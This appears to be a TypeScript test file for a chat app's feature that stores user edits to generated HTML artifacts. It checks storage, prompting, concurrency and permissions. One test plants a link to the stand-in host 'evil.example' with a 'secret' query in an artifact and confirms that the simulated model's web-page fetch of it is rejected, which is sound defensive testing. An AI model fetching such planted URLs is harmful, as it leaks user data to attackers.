import { EDITS_OF_MESSAGE } from '@atrium/domain/runs/artifact-edit'
import { sql } from 'drizzle-orm'
import { expect, test } from 'vitest'
import { accountOfFile, serverOfFile } from '../../../test-harness/server-of-file.ts'

const server = serverOfFile()
const ada = accountOfFile(server)
const bob = accountOfFile(server)

const PAGE = ['<title>Page</title>', ...Array.from({ length: 20 }, (_, line) => `<p>${line}</p>`)].join('\n')
const part = (text: string) => ({ type: 'text' as const, text })
const user = (text: string) => ({ role: 'user' as const, parts: [part(text)] })

async function withPage(body: object = {}) {
  const messages = [user('Make a page'), { role: 'assistant' as const, parts: [part(`\`\`\`html\n${PAGE}\n\`\`\``)] }]
  const { data } = await ada.client.threads.create({ body: { messages, ...body } })
  return { threadId: data.id, messageId: data.messages[1]?.id ?? '' }
}
const lastBody = () => JSON.stringify(server.simulator.control.received().at(-1)?.body)

test('a version of one own is kept with the answer, which stays as it is; the next answer is told what it changes, and later ones in its place', async () => {
  const params = await withPage()
  const code = PAGE.replace('<p>7</p>', '<p>seven</p>')
  const { data } = await ada.client.artifacts.edit({ params, body: { index: 0, code } })
  expect(data.metadata?.artifactEdits).toMatchObject([{ index: 0, code }])
  expect(data.parts).toEqual([part(`\`\`\`html\n${PAGE}\n\`\`\``)])
  const { threadId } = params
  await ada.client.runs.start({ params: { threadId }, body: { messages: [user('Say only: yes')] } })
  expect(lastBody()).toMatch(/Lines 9 to 9 now read.*seven.*Say only: yes/)
  await ada.client.runs.start({ params: { threadId }, body: { messages: [user('Say only: more')] } })
  expect(lastBody().match(/seven/g)).toHaveLength(1)
  // What is shown of the conversation is what was said.
  const { messages } = (await ada.client.threads.get({ params: { threadId } })).data
  expect(messages.filter(({ role }) => role === 'user').map(({ parts }) => parts.length)).toEqual([1, 1, 1])
  const fork = (await ada.client.threads.fork({ params: { threadId }, body: { messageId: params.messageId } })).data
  expect(fork.messages[1]?.metadata?.artifactEdits).toHaveLength(1)
})

test('a version takes room of its author as the words of the answer do', async () => {
  const params = await withPage()
  const weigh = async () => {
    const { rows } = await server.database.db.execute<{ bytes: number }>(sql`
      select bytes from messages where id = ${params.messageId}::uuid`)
    return rows[0]?.bytes ?? 0
  }
  const before = await weigh()
  await ada.client.artifacts.edit({ params, body: { index: 0, code: 'x'.repeat(5000) } })
  expect(await weigh()).toBeGreaterThanOrEqual(before + 5000)
})

test('an address in a version is none that a person has written in the conversation: its page is not read', async () => {
  const params = await withPage()
  const { threadId } = params
  const url = 'https://evil.example/?q=secret'
  const code = PAGE.replace('<p>7</p>', `<a href="${url}">7</a>`)
  await ada.client.artifacts.edit({ params, body: { index: 0, code } })
  const call = { kind: 'tool-call', name: 'read_web_page', arguments: { url } } as const
  server.simulator.control.play(call, { times: 1, textIncludes: 'Go on' })
  const body = { messages: [user('Go on')], tools: ['read_web_page'] }
  const { data } = await ada.client.runs.start({ params: { threadId }, body })
  expect(lastBody()).toContain('evil.example')
  expect(data.messages.at(-1)?.parts).toContainEqual(
    expect.objectContaining({ state: 'output-error', errorText: expect.stringContaining('Only an address') }),
  )
})

test('versions that are made at once are all kept', async () => {
  const params = await withPage()
  const edits = ['one', 'two', 'three'].map((code) => ada.client.artifacts.edit({ params, body: { index: 0, code } }))
  await Promise.all(edits)
  const { messages } = (await ada.client.threads.get({ params: { threadId: params.threadId } })).data
  const codes = messages[1]?.metadata?.artifactEdits?.map(({ code }) => code) ?? []
  expect(codes.toSorted()).toEqual(['one', 'three', 'two'])
})

test('others add none, what has no artifact takes none, and a message holds so many', async () => {
  const params = await withPage({ protected: 'project' })
  const body = { index: 0, code: 'mine' }
  await expect(bob.client.artifacts.edit({ params, body })).rejects.toMatchObject({ status: 403 })
  await expect(ada.client.artifacts.edit({ params, body: { ...body, index: 1 } })).rejects.toMatchObject({
    status: 404,
  })
  const other = { ...params, messageId: '0198c1a0-0000-7000-8000-000000000001' }
  await expect(ada.client.artifacts.edit({ params: other, body })).rejects.toMatchObject({ status: 404 })
  const most = { index: 0, code: 'x'.repeat(EDITS_OF_MESSAGE / 5) }
  for (let time = 0; time < 5; time += 1) await ada.client.artifacts.edit({ params, body: most })
  await expect(ada.client.artifacts.edit({ params, body })).rejects.toMatchObject({ status: 413 })
})
